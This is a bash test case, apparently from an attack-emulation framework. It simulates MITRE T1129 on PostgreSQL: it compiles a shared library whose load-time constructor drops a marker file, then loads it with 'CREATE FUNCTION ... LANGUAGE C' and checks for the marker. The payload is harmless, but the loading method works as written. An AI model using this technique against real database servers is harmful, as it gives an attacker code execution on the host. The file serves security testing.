# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1129
about="CREATE FUNCTION in C loads the attacker's library"
before() {
	echo '#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("/var/tmp/fidelity/marker/was-here", O_CREAT | O_WRONLY, 0644); }' >"$state/m.c"
	gcc -shared -fPIC -o /srv/pg/out/m.so "$state/m.c" && chmod 755 /srv/pg/out/m.so
}
attack() { sql "create function f() returns int language c as '/srv/pg/out/m.so', 'f'"; }
effect() { [ -e "$marker" ]; }
after() { rm -f /srv/pg/out/*; }
